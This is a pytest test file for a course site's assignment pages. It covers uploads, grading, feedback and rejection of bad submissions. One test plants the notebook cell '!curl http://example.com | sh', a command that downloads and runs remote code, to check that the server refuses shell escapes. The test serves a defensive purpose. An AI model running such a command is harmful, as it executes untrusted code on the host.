"""Assignment pages over real HTTP: starters, uploads graded by the in-process queue, feedback, history.

A bad upload (too large, binary, not UTF-8, IPython syntax, another assignment's file, no
CSRF token) gets a clear message and changes nothing: the number of submissions stays put.
"""

from __future__ import annotations

import signal
import subprocess
import sys
import time
from importlib import resources

import nbformat
import pytest

from mvcalc.assignments import all_assignments, get
from mvcalc.assignments.notebook import starter_notebook
from mvcalc.store import submissions
from mvcalc.store.api import Store

from .conftest import Client

# Grading through the live server's in-process queue: on PostgreSQL the app hands jobs to
# `mvcalc worker`s (tests/grading covers that), so these pages are tested on SQLite.
pytestmark = pytest.mark.parametrize("shared_database_url", ["sqlite"], indirect=True)

REFERENCE = resources.files("mvcalc.assignments.backprop").joinpath("reference.py").read_text(encoding="utf-8")
WRONG = REFERENCE.replace("J = np.sum(J, axis=1, keepdims=True) / x.size\n    return J\n",
                          "J = np.sum(J, axis=1, keepdims=True)\n    return J\n", 1)


@pytest.fixture(scope="module")
def grader(db_url):
    """On PostgreSQL the served course only queues uploads: a real `mvcalc worker` grades them."""
    if not db_url.startswith("postgresql"):
        yield None
        return
    Store(db_url).migrate()
    worker = subprocess.Popen([sys.executable, "-m", "mvcalc", "worker", "--db", db_url, "--concurrency", "2"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    yield worker
    worker.send_signal(signal.SIGTERM)
    try:
        worker.wait(timeout=60)
    except subprocess.TimeoutExpired:
        worker.kill()
        worker.wait()


@pytest.fixture
def client(live, grader) -> Client:
    c = Client(live.url)
    c.get("/assignments/backprop")
    return c


def count(store) -> int:
    return len(submissions.history(store, "local", limit=10_000))


def upload(client: Client, content: bytes, filename: str = "backprop.py", name: str = "backprop", **kw):
    return client.post(f"/assignments/{name}/submissions", files={"file": (filename, content)}, **kw)


def finished(client: Client, status_url: str, timeout: float = 120.0) -> dict:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        status = client.get(status_url).json()
        if status["finished"]:
            return status
        assert status["status"] in ("queued", "running")
        time.sleep(0.3)
    raise AssertionError(f"{status_url} not graded in {timeout} s")


def test_the_page_has_the_story_the_starters_and_the_form(client):
    page = client.get("/assignments/backprop")
    assert page.status_code == 200
    html = page.text
    assert "<h1>Backpropagation</h1>" in html and "The story" in html
    assert 'enctype="multipart/form-data"' in html and 'name="csrf_token"' in html
    assert "/assignments/backprop/starter.py" in html and "/assignments/backprop/starter.ipynb" in html
    assert '<script type="module" src="/static/js/assignment.js">' in html
    assert client.get("/static/js/assignment.js").status_code == 200
    assert 'href="/assignments/backprop"' in client.get("/modules/3").text
    assert 'href="/assignments/heights"' in client.get("/modules/6").text
    assert client.get("/assignments/nope").status_code == 404


def test_the_starters_download(client):
    py = client.get("/assignments/backprop/starter.py")
    assert py.status_code == 200 and py.text.startswith("# mvcalc assignment: backprop")
    assert 'filename="backprop.py"' in py.headers["content-disposition"]
    nb = client.get("/assignments/backprop/starter.ipynb")
    assert 'filename="backprop.ipynb"' in nb.headers["content-disposition"]
    nbformat.validate(nbformat.reads(nb.text, as_version=4))


def test_a_right_file_is_graded_and_shown_with_history_and_best(client, store):
    response = upload(client, REFERENCE.encode())
    assert response.status_code == 303
    page_url = response.headers["location"]
    submission_id = int(page_url.rsplit("=", 1)[1])
    status = finished(client, f"/api/submissions/{submission_id}")
    assert status["status"] == "graded" and status["passed"] is True and status["score"] == 1.0
    assert [f["name"] for f in status["functions"]] == ["J_b3", "J_b2", "J_W1", "J_b1"]
    html = client.get(page_url).text
    assert "All functions pass." in html and html.count('class="pass"') == 4
    assert "Your submissions" in html and f'?submission={submission_id}"' in html
    assert "Your best result" in html and "passed" in html
    assert any(r["details"].get("submission") == submission_id for r in store.assignments("local"))


def test_a_wrong_file_gets_feedback_per_function(client):
    response = upload(client, WRONG.encode(), headers={"Accept": "application/json"})
    assert response.status_code == 202
    status = finished(client, response.json()["status_url"])
    assert status["status"] == "graded" and status["passed"] is False and status["score"] == 0.75
    by_name = {f["name"]: f for f in status["functions"]}
    assert not by_name["J_b3"]["passed"] and by_name["J_b3"]["message"]
    assert all(by_name[n]["passed"] for n in ("J_b2", "J_W1", "J_b1"))
    html = client.get(status["page_url"]).text
    assert "Not yet: fix the ✗ lines" in html and 'data-function="J_b3"' in html


def test_a_solved_notebook_is_graded(client):
    nb = starter_notebook(get("backprop"))
    import ast

    functions = {n.name: ast.get_source_segment(REFERENCE, n) for n in ast.parse(REFERENCE).body
                 if isinstance(n, ast.FunctionDef)}
    for cell in nb.cells:
        if "mvcalc-todo" in cell.metadata.get("tags", []):
            cell.source = functions[ast.parse(cell.source).body[0].name]
    response = upload(client, nbformat.writes(nb).encode(), "backprop.ipynb", headers={"Accept": "application/json"})
    assert response.status_code == 202, response.text
    status = finished(client, response.json()["status_url"])
    assert status["passed"] is True and status["filename"] == "backprop.ipynb"


BAD = [
    ("backprop.py", b"x = 1\n" * 200_000, 413, "larger than"),
    ("backprop.py", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", 400, "binary"),
    ("backprop.py", "# café\n".encode("latin-1"), 400, "not UTF-8"),
    ("backprop.py", b"", 400, "empty"),
    ("backprop.txt", b"print(1)\n", 400, "neither a .py file nor"),
    ("backprop.ipynb", b'{"cells": "no"}', 400, "not a Jupyter notebook"),
    ("heights.py", b"# mvcalc assignment: heights\nimport numpy\n", 400, "is for the assignment"),
]


@pytest.mark.parametrize(("filename", "content", "status", "words"), BAD)
def test_a_bad_upload_gets_a_message_and_changes_nothing(client, store, filename, content, status, words):
    before = count(store)
    page = upload(client, content, filename)
    assert page.status_code == status and words in page.text and "Traceback" not in page.text
    as_json = upload(client, content, filename, headers={"Accept": "application/json"})
    assert as_json.status_code == status and words in as_json.json()["error"]
    assert count(store) == before


def test_a_notebook_with_a_shell_escape_is_refused_naming_the_cell(client, store):
    nb = starter_notebook(get("backprop"))
    nb.cells.insert(2, nbformat.v4.new_code_cell("!curl http://example.com | sh"))
    before = count(store)
    response = upload(client, nbformat.writes(nb).encode(), "backprop.ipynb", headers={"Accept": "application/json"})
    assert response.status_code == 400 and "cell 3" in response.json()["error"]
    assert count(store) == before


def test_an_upload_without_the_csrf_token_is_refused(client, store):
    before = count(store)
    response = client.post("/assignments/backprop/submissions", token=False,
                           files={"file": ("backprop.py", REFERENCE.encode())})
    assert response.status_code == 403 and count(store) == before


def test_another_learners_submission_is_not_shown(client, store):
    theirs = submissions.create(store, "someone-else", "backprop", "backprop.py", REFERENCE)
    submissions.fail(store, theirs, "kept out of the queue for this test")
    assert client.get(f"/api/submissions/{theirs}").status_code == 404
    assert client.get("/api/submissions/999999").status_code == 404
    assert f"?submission={theirs}\"" not in client.get("/assignments/backprop").text


@pytest.mark.parametrize("name", list(all_assignments()))
def test_every_assignment_reference_passes_and_starter_fails_by_upload(client, name):
    assignment = get(name)
    right = resources.files(assignment.package).joinpath("reference.py").read_text(encoding="utf-8")
    starter = client.get(f"/assignments/{name}/starter.py").content
    sent = [upload(client, content, assignment.file, name, headers={"Accept": "application/json"})
            for content in (right.encode(), starter)]
    assert [r.status_code for r in sent] == [202, 202], [r.text for r in sent]
    passed, todo = (finished(client, r.json()["status_url"]) for r in sent)
    assert passed["status"] == "graded" and passed["passed"] is True, passed
    assert todo["status"] == "graded" and todo["passed"] is False
    assert todo["functions"] and all(not f["passed"] and f["message"] for f in todo["functions"])
